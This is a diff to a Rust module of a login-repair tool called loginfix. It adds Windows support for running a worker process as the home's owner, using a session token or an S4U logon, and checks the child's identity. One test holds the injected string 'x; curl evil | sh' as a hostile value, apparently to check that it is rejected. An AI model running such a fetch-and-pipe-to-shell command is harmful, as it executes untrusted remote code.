@@ -18,15 +18,24 @@
 //! checks of `doctor`, `--json-out`, the fleet document and the summary.
 //!
 //! A home owned by root, or whose owner cannot be told, is worked on in this process
-//! under the root-holes rules (`confine`); so is every home on Windows, where a user's
-//! token without their password needs a logon of its own (see [`windows_runner`]).
+//! under the root-holes rules (`confine`).
+//!
+//! On Windows, SYSTEM (as Intune runs it) works in a user's home with a token for that
+//! user, had without their password: their signed-in session's (`WTSQueryUserToken`),
+//! else an S4U logon for a local or domain account (see [`windows_runner`] and
+//! `platform::token`). The child is started with that token and its stdin as the control
+//! pipe; it opens the home by its path, as the user, so Windows checks every access
+//! against that user's rights. Where no token can be had (an Entra ID-only account not
+//! signed in, a refused logon) the home is worked on here through the handle walk.
 
 pub mod statics;
 pub mod wire;
 
 use std::fs::File;
 use std::io::{Read, Write};
-use std::process::{Command, ExitCode, Stdio};
+use std::process::ExitCode;
+#[cfg(unix)]
+use std::process::{Command, Stdio};
 use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
 use std::sync::mpsc;
 use std::sync::{Arc, Mutex};
@@ -37,7 +46,9 @@ use crate::events::{Answer, Event, Sink};
 use crate::platform::as_user::{self, Ids};
 use crate::platform::Layout;
 use crate::report::{AnyReport, Exit};
-use crate::{interrupt, users, Fatal};
+#[cfg(unix)]
+use crate::users;
+use crate::{interrupt, Fatal};
 use wire::{Done, FromChild, Instructions, ReadError, ToChild, Told, WireAnswer, WireEvent};
 
 /// The first argument that makes loginfix the child working in a home.
@@ -65,21 +76,185 @@ pub enum Place {
     /// In this process (loginfix is the home's owner, or the owner is root or unknown).
     Here,
     /// In a child that becomes the home's owner.
-    AsOwner { home: File, uid: u32, gid: u32 },
+    AsOwner(Owner),
 }
 
-/// Where the work in `layout`'s home runs: as its owner when loginfix is root and the
-/// home belongs to a user other than root.
-pub fn place(layout: &Layout) -> Place {
-    if !users::running_as_root() || !cfg!(unix) {
-        return Place::Here;
+/// A home's owner, as the child working in it will be.
+pub enum Owner {
+    /// Unix: the home's handle (passed down as it is) and the owner's ids, read from it.
+    #[cfg(unix)]
+    Ids { home: File, uid: u32, gid: u32 },
+    /// Windows: a token for the owner without their password, their SID, and how the
+    /// token was had.
+    #[cfg(windows)]
+    Token {
+        token: crate::platform::token::Token,
+        sid: String,
+        how: WindowsRunner,
+    },
+}
+
+/// Who the child must say it is.
+#[derive(Clone, Debug)]
+pub enum Expect {
+    Ids(u32, u32),
+    Sid(String),
+}
+
+impl Expect {
+    fn matches(&self, ids: &Ids) -> bool {
+        match self {
+            Expect::Ids(uid, gid) => ids.are(*uid, *gid),
+            Expect::Sid(sid) => ids.sid.as_deref() == Some(sid.as_str()),
+        }
     }
-    let Ok(home) = as_user::open_dir(&layout.home) else {
-        return Place::Here;
+}
+
+impl std::fmt::Display for Expect {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            Expect::Ids(uid, gid) => write!(f, "uid {uid} and gid {gid}"),
+            Expect::Sid(sid) => f.write_str(sid),
+        }
+    }
+}
+
+impl Owner {
+    fn expect(&self) -> Expect {
+        match self {
+            #[cfg(unix)]
+            Owner::Ids { uid, gid, .. } => Expect::Ids(*uid, *gid),
+            #[cfg(windows)]
+            Owner::Token { sid, .. } => Expect::Sid(sid.clone()),
+        }
+    }
+
+    /// Who the owner is, for messages: `uid 1001`, or their SID.
+    fn who(&self) -> String {
+        match self {
+            #[cfg(unix)]
+            Owner::Ids { uid, .. } => format!("uid {uid}"),
+            #[cfg(windows)]
+            Owner::Token { sid, .. } => sid.clone(),
+        }
+    }
+
+    /// Whether the owner owns the directory `dir`.
+    fn owns(&self, dir: &std::path::Path) -> bool {
+        let Ok(opened) = as_user::open_dir(dir) else {
+            return false;
+        };
+        match self {
+            #[cfg(unix)]
+            Owner::Ids { uid, .. } => as_user::handle_owner(&opened).map(|(u, _)| u) == Some(*uid),
+            #[cfg(windows)]
+            Owner::Token { sid, .. } => {
+                crate::platform::token::owner_sid(&opened).as_deref() == Some(sid.as_str())
+            }
+        }
+    }
+}
+
+/// Where the work in `layout`'s home runs: as its owner when loginfix is root (SYSTEM on
+/// Windows) and the home belongs to a user.
+pub fn place(layout: &Layout) -> Place {
+    place_noted(layout).0
+}
+
+/// [`place`], and a line for `-v` saying which way the home is worked on and why.
+pub fn place_noted(layout: &Layout) -> (Place, Option<String>) {
+    #[cfg(unix)]
+    {
+        if !users::running_as_root() {
+            return (Place::Here, None);
+        }
+        let Ok(home) = as_user::open_dir(&layout.home) else {
+            return (Place::Here, None);
+        };
+        match as_user::handle_owner(&home) {
+            Some((uid, gid)) if uid != 0 && gid != 0 => (
+                Place::AsOwner(Owner::Ids { home, uid, gid }),
+                Some(format!(
+                    "working in `{}` as its owner (uid {uid}, gid {gid}), in a process of its own",
+                    layout.home.display()
+                )),
+            ),
+            _ => (Place::Here, None),
+        }
+    }
+    #[cfg(windows)]
+    {
+        windows_place(layout)
+    }
+    #[cfg(not(any(unix, windows)))]
+    {
+        let _ = layout;
+        (Place::Here, None)
+    }
+}
+
+/// Tests under Wine, where nothing runs as SYSTEM, take the decision SYSTEM would
+/// (debug builds only).
+#[cfg(windows)]
+fn as_system_for_tests() -> bool {
+    cfg!(debug_assertions) && std::env::var_os("LOGINFIX_TEST_AS_SYSTEM").is_some()
+}
+
+/// As SYSTEM on a Windows home that is a user's: their signed-in session's token, else
+/// an S4U logon, else (an Entra ID-only account not signed in, a logon refused) the
+/// handle walk in this process.
+#[cfg(windows)]
+fn windows_place(layout: &Layout) -> (Place, Option<String>) {
+    use crate::platform::token;
+    if layout.os != crate::platform::Os::Windows || !(token::is_system() || as_system_for_tests()) {
+        return (Place::Here, None);
+    }
+    let Ok(handle) = as_user::open_dir(&layout.home) else {
+        return (Place::Here, None);
     };
-    match as_user::handle_owner(&home) {
-        Some((uid, gid)) if uid != 0 && gid != 0 => Place::AsOwner { home, uid, gid },
-        _ => Place::Here,
+    let Some(sid) = token::home_sid(&layout.home, &handle) else {
+        return (Place::Here, None);
+    };
+    let kind = token::account_kind(&sid);
+    let session = token::session_token(&sid);
+    let home = layout.home.display();
+    let walk = |why: String| {
+        (
+            Place::Here,
+            Some(format!(
+                "working in `{home}` as SYSTEM, through directory handles: {why}"
+            )),
+        )
+    };
+    match (windows_runner(true, session.is_some(), kind), session) {
+        (WindowsRunner::SessionToken, Some(token)) => (
+            Place::AsOwner(Owner::Token {
+                token,
+                sid: sid.clone(),
+                how: WindowsRunner::SessionToken,
+            }),
+            Some(format!(
+                "working in `{home}` as its owner {sid}, with their signed-in session's token"
+            )),
+        ),
+        (WindowsRunner::S4u, _) => match token::s4u_token(&sid, kind) {
+            Ok(token) => (
+                Place::AsOwner(Owner::Token {
+                    token,
+                    sid: sid.clone(),
+                    how: WindowsRunner::S4u,
+                }),
+                Some(format!(
+                    "working in `{home}` as its owner {sid}, through a logon without their \
+                     password (S4U)"
+                )),
+            ),
+            Err(e) => walk(format!("no token could be had for its owner {sid} ({e})")),
+        },
+        _ => walk(format!(
+            "its owner {sid} is not signed in, and an S4U logon is not made for a {kind:?} \
+             account"
+        )),
     }
 }
 
@@ -95,16 +270,26 @@ pub enum Ran {
 /// Runs `job` on `layout`'s home, telling nobody as it goes (a script, a fleet user):
 /// in this process or in a child that is the home's owner (see [`place`]).
 pub fn run_one(job: &Job, layout: &Layout, ctx: &Context) -> Result<AnyReport, Fatal> {
-    match place(layout) {
+    run_placed(job, layout, ctx, place(layout))
+}
+
+/// [`run_one`] where the place is already known.
+pub fn run_placed(
+    job: &Job,
+    layout: &Layout,
+    ctx: &Context,
+    place: Place,
+) -> Result<AnyReport, Fatal> {
+    match place {
         Place::Here => commands::run_one(job, layout, ctx),
-        Place::AsOwner { home, uid, gid } => {
+        Place::AsOwner(owner) => {
             match run_as_owner(
                 job,
                 layout,
                 ctx,
                 Told::Nobody,
                 &mut crate::events::Nobody,
-                (home, uid, gid),
+                owner,
             )? {
                 Ran::Report(r) => Ok(r),
                 Ran::Stopped(exit) => Err(Fatal {
@@ -116,7 +301,7 @@ pub fn run_one(job: &Job, layout: &Layout, ctx: &Context) -> Result<AnyReport, F
     }
 }
 
-/// Runs `job` in a child that is `owner` (the home's handle, uid and gid), telling `sink`
+/// Runs `job` in a child that is `owner` (see [`Owner`]), telling `sink`
 /// the events `told` asks for and passing the question's answer down. The machine-wide
 /// checks of `doctor` and `fix` are made here, as root, and added to the child's report.
 pub fn run_as_owner(
@@ -125,10 +310,9 @@ pub fn run_as_owner(
     ctx: &Context,
     told: Told,
     sink: &mut dyn Sink,
-    owner: (File, u32, u32),
+    owner: Owner,
 ) -> Result<Ran, Fatal> {
-    let (home, uid, gid) = owner;
-    backup_dir_for(job, layout, uid)?;
+    backup_dir_for(job, layout, &owner)?;
     let child_ctx_fleet = ctx.fleet;
     let instructions = Instructions {
         job: job.clone(),
@@ -142,14 +326,14 @@ pub fn run_as_owner(
         undo: ctx.undo.clone(),
         fleet_run: ctx.fleet_run.clone(),
     };
-    let ran = Child::start(&home, uid, gid, &instructions, layout)?.follow(
+    let ran = Child::start(&owner, &instructions, layout)?.follow(
         job,
         ctx,
         told,
         sink,
-        (uid, gid),
+        &owner.expect(),
     )?;
-    drop(home);
+    drop(owner);
     match ran {
         Ran::Report(mut report) => {
             own_undo(job, layout, ctx, &mut report);
@@ -205,7 +389,7 @@ fn own_undo(job: &Job, layout: &Layout, ctx: &Context, report: &mut AnyReport) {
 /// child, working as that user, could not write it (nor should root write a user's
 /// copies where that user cannot reach them). Inside the home, or the user's own, it is
 /// passed down as given.
-fn backup_dir_for(job: &Job, layout: &Layout, uid: u32) -> Result<(), Fatal> {
+fn backup_dir_for(job: &Job, layout: &Layout, owner: &Owner) -> Result<(), Fatal> {
     let dir = match job {
         Job::Clean(o) => o.backup_dir.as_ref(),
         Job::Fix(o) => o.backup_dir.as_ref(),
@@ -216,21 +400,18 @@ fn backup_dir_for(job: &Job, layout: &Layout, uid: u32) -> Result<(), Fatal> {
     let Some(dir) = dir.filter(|d| !d.starts_with(&layout.home)) else {
         return Ok(());
     };
-    let owner = File::open(dir)
-        .ok()
-        .and_then(|d| as_user::handle_owner(&d))
-        .map(|(u, _)| u);
-    if owner == Some(uid) {
+    if owner.owns(dir) {
         return Ok(());
     }
+    let who = owner.who();
     Err(Fatal::usage(format!(
-        "as root, loginfix works in `{}` as its owner (uid {uid}), who does not own \
+        "as root, loginfix works in `{}` as its owner ({who}), who does not own \
          --backup-dir `{}`",
         layout.home.display(),
         dir.display()
     ))
     .hint(format!(
-        "leave --backup-dir out (the sets go in the home), or give a directory uid {uid} owns"
+        "leave --backup-dir out (the sets go in the home), or give a directory {who} owns"
     )))
 }
 
@@ -278,9 +459,56 @@ struct Stderr {
     ended: AtomicBool,
 }
 
+/// The child's process: started by `Command` (Unix, and the tests' stand-ins), or with a
+/// user's token (Windows).
+enum Process {
+    #[cfg(unix)]
+    Std(std::process::Child),
+    #[cfg(windows)]
+    Token(crate::platform::token::Process),
+}
+
+impl Process {
+    fn id(&self) -> u32 {
+        match self {
+            #[cfg(unix)]
+            Process::Std(c) => c.id(),
+            #[cfg(windows)]
+            Process::Token(p) => p.id(),
+        }
+    }
+
+    fn try_wait(&mut self) -> std::io::Result<Option<std::process::ExitStatus>> {
+        match self {
+            #[cfg(unix)]
+            Process::Std(c) => c.try_wait(),
+            #[cfg(windows)]
+            Process::Token(p) => p.try_wait(),
+        }
+    }
+
+    fn kill(&mut self) -> std::io::Result<()> {
+        match self {
+            #[cfg(unix)]
+            Process::Std(c) => c.kill(),
+            #[cfg(windows)]
+            Process::Token(p) => p.kill(),
+        }
+    }
+
+    fn wait(&mut self) -> std::io::Result<std::process::ExitStatus> {
+        match self {
+            #[cfg(unix)]
+            Process::Std(c) => c.wait(),
+            #[cfg(windows)]
+            Process::Token(p) => p.wait(),
+        }
+    }
+}
+
 /// A child working in a home, and what the parent knows of it.
 struct Child {
-    process: std::process::Child,
+    process: Process,
     /// Closed once the child is done, which tells it the parent has no more to say.
     control: Option<File>,
     frames: mpsc::Receiver<Result<FromChild, ReadError>>,
@@ -289,37 +517,62 @@ struct Child {
 }
 
 impl Child {
-    fn start(
-        home: &File,
-        uid: u32,
-        gid: u32,
-        instructions: &Instructions,
-        layout: &Layout,
-    ) -> Result<Child, Fatal> {
+    fn start(owner: &Owner, instructions: &Instructions, layout: &Layout) -> Result<Child, Fatal> {
         let exe = std::env::current_exe()
             .map_err(|e| Fatal::failure(format!("could not find loginfix's own program: {e}")))?;
-        let mut cmd = Command::new(exe);
-        cmd.arg(WORKER_ARG)
-            .arg(uid.to_string())
-            .arg(gid.to_string());
-        Child::spawn(cmd, home, instructions, &layout.home)
+        match owner {
+            #[cfg(unix)]
+            Owner::Ids { home, uid, gid } => {
+                let mut cmd = Command::new(exe);
+                cmd.arg(WORKER_ARG)
+                    .arg(uid.to_string())
+                    .arg(gid.to_string());
+                Child::spawn(cmd, home, instructions, &layout.home)
+            }
+            #[cfg(windows)]
+            Owner::Token { token, sid, .. } => {
+                use crate::platform::token;
+                // Only what Windows itself needs: the child reads nothing else of root's.
+                let system_root = std::env::var_os("SystemRoot")
+                    .unwrap_or_else(|| std::ffi::OsString::from(r"C:\Windows"));
+                let mut env = vec![("SystemRoot", system_root.clone())];
+                if let Some(drive) = std::env::var_os("SystemDrive") {
+                    env.push(("SystemDrive", drive));
+                }
+                let args = [std::ffi::OsStr::new(WORKER_ARG), std::ffi::OsStr::new(sid)];
+                let spawned =
+                    token::spawn(token, &exe, &args, &env, std::path::Path::new(&system_root))
+                        .map_err(|e| Child::not_started(&layout.home, "start", &e))?;
+                Ok(Child::attach(
+                    Process::Token(spawned.process),
+                    spawned.control,
+                    Some(spawned.stdout),
+                    Some(spawned.stderr),
+                    instructions,
+                    &layout.home,
+                ))
+            }
+        }
     }
 
-    /// Starts `cmd` as the child working in `shown` (the home, for messages) and sends
-    /// it `instructions`.
+    fn not_started(shown: &std::path::Path, what: &str, e: &dyn std::fmt::Display) -> Fatal {
+        Fatal::failure(format!(
+            "could not start the process that works in `{}` as its owner: {what}: {e}",
+            shown.display()
+        ))
+    }
+
+    /// Starts `cmd` as the child working in `shown` (the home, for messages), with `home`
+    /// as its descriptor 3, and sends it `instructions`.
+    #[cfg(unix)]
     fn spawn(
         mut cmd: Command,
         home: &File,
         instructions: &Instructions,
         shown: &std::path::Path,
     ) -> Result<Child, Fatal> {
-        let failed = |what: &str, e: &dyn std::fmt::Display| {
-            Fatal::failure(format!(
-                "could not start the process that works in `{}` as its owner: {what}: {e}",
-                shown.display()
-            ))
-        };
-        let (control_read, mut control) = as_user::pipe().map_err(|e| failed("a pipe", &e))?;
+        let (control_read, control) =
+            as_user::pipe().map_err(|e| Child::not_started(shown, "a pipe", &e))?;
         cmd.env_clear()
             .env("PATH", "/usr/bin:/bin")
             .current_dir("/")
@@ -327,15 +580,36 @@ impl Child {
             .stdout(Stdio::piped())
             .stderr(Stdio::piped());
         let mut process = as_user::spawn_worker(&mut cmd, home, &control_read)
-            .map_err(|e| failed("start", &e))?;
+            .map_err(|e| Child::not_started(shown, "start", &e))?;
         drop(control_read);
+        let stdout = process.stdout.take();
+        let stderr = process.stderr.take();
+        Ok(Child::attach(
+            Process::Std(process),
+            control,
+            stdout,
+            stderr,
+            instructions,
+            shown,
+        ))
+    }
+
+    /// Sends a started child its instructions and reads what it says, on threads of
+    /// their own.
+    fn attach(
+        process: Process,
+        mut control: File,
+        mut stdout: Option<impl Read + Send + 'static>,
+        mut stderr_pipe: Option<impl Read + Send + 'static>,
+        instructions: &Instructions,
+        shown: &std::path::Path,
+    ) -> Child {
         // A child that could not take them has ended: reading its output says how.
         let _ = control.write_all(wire::MAGIC).and_then(|()| {
             wire::write(&mut control, &ToChild::Run(Box::new(instructions.clone())))
         });
+        // Windows: the pipe's buffer holds all the parent ever sends after this.
         let _ = as_user::nonblocking(&control);
-        let mut stdout = process.stdout.take();
-        let mut stderr_pipe = process.stderr.take();
         // A few messages ahead at most: the child waits while the parent is busy (asking
         // the person), rather than the parent's memory filling.
         let (tx, frames) = mpsc::sync_channel(2);
@@ -383,13 +657,13 @@ impl Child {
             }
             kept.ended.store(true, Ordering::Relaxed);
         });
-        Ok(Child {
+        Child {
             process,
             control: Some(control),
             frames,
             stderr,
             home: shown.to_path_buf(),
-        })
+        }
     }
 
     /// The process's own words on stderr, made safe to print (once they have all come,
@@ -454,7 +728,7 @@ impl Child {
         ctx: &Context,
         told: Told,
         sink: &mut dyn Sink,
-        (uid, gid): (u32, u32),
+        expect: &Expect,
     ) -> Result<Ran, Fatal> {
         interrupt::install();
         let now = Instant::now();
@@ -520,11 +794,11 @@ impl Child {
             last = Instant::now();
             match frame {
                 Ok(FromChild::Hello(ids)) if hello.is_none() => {
-                    if ids.pid != self.process.id() || !ids.are(uid, gid) {
+                    if ids.pid != self.process.id() || !expect.matches(&ids) {
                         let said = wire::shorten(&format!("{ids:?}"));
-                        return Err(self.kill(format!(
-                            "did not become uid {uid} and gid {gid} alone (it says {said})"
-                        )));
+                        return Err(
+                            self.kill(format!("did not become {expect} alone (it says {said})"))
+                        );
                     }
                     hello = Some(ids);
                 }
@@ -655,7 +929,20 @@ pub fn child_main() -> Option<ExitCode> {
     })
 }
 
-fn child(args: &[std::ffi::OsString]) -> Result<(), String> {
+/// How the child found the home it was sent to, once it is the user.
+#[cfg_attr(not(unix), allow(dead_code))]
+enum Found {
+    Reachable,
+    /// A directory above it is closed to the user (macOS: no mount namespace).
+    Closed,
+    /// Its path no longer names the directory root opened.
+    Moved,
+}
+
+/// The child's start on Unix: reads its instructions (from root, trusted) while still
+/// root, makes the home reachable, becomes the user and looks at the home's path again.
+#[cfg(unix)]
+fn enter(args: &[std::ffi::OsString]) -> Result<(Box<Instructions>, File, Ids, Found), String> {
     let number = |i: usize| -> Result<u32, String> {
         args.get(i)
             .and_then(|a| a.to_str())
@@ -665,24 +952,68 @@ fn child(args: &[std::ffi::OsString]) -> Result<(), String> {
     let (uid, gid) = (number(2)?, number(3)?);
     let home = as_user::inherited(as_user::HOME_FD).ok_or("no home handle was given")?;
     let mut control = as_user::inherited(as_user::CONTROL_FD).ok_or("no control pipe was given")?;
-    // The parent is root and trusted: its instructions are read before the change.
-    wire::read_magic(&mut control).map_err(|e| e.to_string())?;
-    let mut budget = wire::MAX_STREAM;
-    let run = match wire::read::<ToChild>(&mut control, &mut budget) {
-        Ok(ToChild::Run(run)) => run,
-        _ => return Err("the parent sent no run".to_string()),
-    };
+    let run = read_run(&mut control)?;
     as_user::expose_home(&run.layout.home, &home, uid, gid)?;
     let ids = as_user::become_user(uid, gid)?;
+    let found = match std::fs::metadata(&run.layout.home) {
+        _ if as_user::same_dir(&run.layout.home, &home) => Found::Reachable,
+        Err(e) if e.kind() == std::io::ErrorKind::PermissionDenied => Found::Closed,
+        _ => Found::Moved,
+    };
+    Ok((run, control, ids, found))
+}
+
+/// The child's start on Windows: started with the user's token by SYSTEM, so it is the
+/// user from its first instruction; it checks that it runs as the SID it was started
+/// for. Its control pipe is its stdin.
+#[cfg(windows)]
+fn enter(args: &[std::ffi::OsString]) -> Result<(Box<Instructions>, File, Ids, Found), String> {
+    use std::os::windows::io::AsHandle;
+    let sid = args
+        .get(2)
+        .and_then(|a| a.to_str())
+        .ok_or("no SID was given")?;
+    let ids = as_user::ids();
+    if ids.sid.as_deref() != Some(sid) {
+        return Err(format!(
+            "runs as {}, not as {sid}",
+            ids.sid.as_deref().unwrap_or("an unknown account")
+        ));
+    }
+    let mut control = std::io::stdin()
+        .as_handle()
+        .try_clone_to_owned()
+        .map(File::from)
+        .map_err(|e| format!("no control pipe was given: {e}"))?;
+    let run = read_run(&mut control)?;
+    Ok((run, control, ids, Found::Reachable))
+}
+
+#[cfg(not(any(unix, windows)))]
+fn enter(_: &[std::ffi::OsString]) -> Result<(Box<Instructions>, File, Ids, Found), String> {
+    Err("not available on this OS".to_string())
+}
+
+/// The parent's instructions: the magic, then one `Run`.
+fn read_run(control: &mut File) -> Result<Box<Instructions>, String> {
+    wire::read_magic(control).map_err(|e| e.to_string())?;
+    let mut budget = wire::MAX_STREAM;
+    match wire::read::<ToChild>(control, &mut budget) {
+        Ok(ToChild::Run(run)) => Ok(run),
+        _ => Err("the parent sent no run".to_string()),
+    }
+}
+
+fn child(args: &[std::ffi::OsString]) -> Result<(), String> {
+    let (run, control, ids, found) = enter(args)?;
     let mut out = std::io::stdout().lock();
     out.write_all(wire::MAGIC).map_err(|e| e.to_string())?;
     wire::write(&mut out, &FromChild::Hello(ids)).map_err(|e| e.to_string())?;
     crate::i18n::set(run.lang);
     let shown = run.layout.home.clone();
-    let done = match std::fs::metadata(&shown) {
-        _ if as_user::same_dir(&shown, &home) => work(*run, control, &mut out),
-        // macOS: no mount namespace to bring the home within the user's reach.
-        Err(e) if e.kind() == std::io::ErrorKind::PermissionDenied => Done::Fatal {
+    let done = match found {
+        Found::Reachable => work(*run, control, &mut out),
+        Found::Closed => Done::Fatal {
             message: format!(
                 "the home's owner cannot reach `{}`: a directory above it is closed to \
                  them, and loginfix works in a home as its owner",
@@ -695,7 +1026,7 @@ fn child(args: &[std::ffi::OsString]) -> Result<(), String> {
             ],
             exit: Exit::Failure as u8,
         },
-        _ => Done::Fatal {
+        Found::Moved => Done::Fatal {
             message: format!(
                 "`{}` is no longer the directory loginfix opened as this home (it was moved \
                  or replaced meanwhile); nothing was done in it",
@@ -909,7 +1240,7 @@ mod tests {
             &Context::default(),
             told,
             &mut crate::events::Nobody,
-            (4242, 4242),
+            &Expect::Ids(4242, 4242),
         )
     }
 
@@ -964,6 +1295,7 @@ mod tests {
             uid: vec![0, 0, 0],
             gid: vec![0, 0, 0],
             groups: vec![0],
+            sid: None,
         };
         let script = format!("printf '{}'; sleep 60", framed(&[FromChild::Hello(root)]));
         let why = killed_because(follow_fake(&script, Told::Nobody));
@@ -1055,6 +1387,23 @@ mod tests {
         set(&mut report, "x; curl evil | sh");
         own_undo(&job, &layout, &ctx, &mut report);
         assert_eq!(undo(&report), None);
+    }
+
+    #[test]
+    fn a_child_must_say_the_ids_or_the_sid_it_was_started_as() {
+        let ids = |uid: u32, sid: Option<&str>| Ids {
+            pid: 1,
+            uid: vec![uid; 3],
+            gid: vec![uid; 3],
+            groups: vec![uid],
+            sid: sid.map(str::to_string),
+        };
+        assert!(Expect::Ids(1001, 1001).matches(&ids(1001, None)));
+        assert!(!Expect::Ids(1001, 1001).matches(&ids(0, None)));
+        let sid = "S-1-5-21-1-2-3-1001";
+        assert!(Expect::Sid(sid.to_string()).matches(&ids(0, Some(sid))));
+        assert!(!Expect::Sid(sid.to_string()).matches(&ids(0, Some("S-1-5-18"))));
+        assert!(!Expect::Sid(sid.to_string()).matches(&ids(0, None)));
     }
 
     #[test]
